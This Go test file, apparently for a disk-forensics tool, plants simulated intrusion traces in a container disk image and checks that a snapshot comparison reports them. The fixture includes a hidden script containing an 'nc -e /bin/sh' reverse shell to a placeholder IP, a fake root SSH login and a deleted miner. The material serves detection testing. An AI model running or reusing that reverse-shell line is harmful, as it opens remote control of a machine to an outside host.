package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"lagan/fixtures"
	"lagan/internal/needs"
)

// TestBatchCompareStates compares a node's disk with the same some minutes later:
// a program was put into a container, a log came, another program went.
func TestBatchCompareStates(t *testing.T) {
	needs.Tool(t, "debugfs")
	dir := t.TempDir()
	disk, err := os.ReadFile(fixtures.Disk(t, "podman-fuse"))
	if err != nil {
		t.Fatal(err)
	}
	put := func(name string, content []byte) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, content, 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	put("monday.img", disk)
	tuesday := put("tuesday.img", disk)
	const upper = "/var/lib/containers/storage/overlay/fdec61aa269dd2c7c28096a8a91e40872a405761e479a3984f687635fb92b802/diff"
	commands := put("commands", []byte("mkdir /var/log\nwrite "+put("program", []byte("#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n"))+" "+upper+"/.hidden\n"+
		"write "+put("log", []byte("Nov 27 12:00:00 podman-fuse sshd[77]: Accepted publickey for root from 198.51.100.7 port 50000 ssh2\n"))+" /var/log/auth.log\n"+
		"rm "+upper+"/tmp/.hidden/miner\n"))
	if out, err := exec.Command("debugfs", "-w", "-f", commands, tuesday).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	manifest := put("manifest", []byte("monday.img\ntuesday.img\n"))
	lagan := func(args ...string) string {
		var out, errs bytes.Buffer
		if code := run(t.Context(), args, &out, &errs); code != exitOK {
			t.Fatalf("%q: exit %d: %s%s", args, code, out.String(), errs.String())
		}
		return out.String()
	}
	results := filepath.Join(dir, "out")
	lagan("batch", manifest, "-o", results, "--tasks", "containers,images,diff,timeline", "--allow-gaps", "-q")
	short := lagan("batch", "compare", results, "monday", "tuesday")
	events := lagan("batch", "compare", results, "monday", "tuesday", "--events")
	for _, c := range []struct{ in, want string }{
		{short, "+ diff"}, {short, "busy /.hidden"}, {short, "+ timeline"},
		{events, "/.hidden"}, {events, "Accepted publickey for root"}, {events, "Reverse shell: CONTAINER:busy:/.hidden"}, {events, "Content Deletion Time: CONTAINER:busy:/tmp/.hidden/miner"}, {short, "- diff"}, {short, "busy /tmp/.hidden/miner"},
	} {
		if !strings.Contains(c.in, c.want) {
			t.Errorf("nothing says %q:\n%.4000s", c.want, c.in)
		}
	}
	if same := lagan("batch", "compare", results, "monday", "monday", "--events"); same != "" {
		t.Errorf("the same differs: %s", same)
	}
}
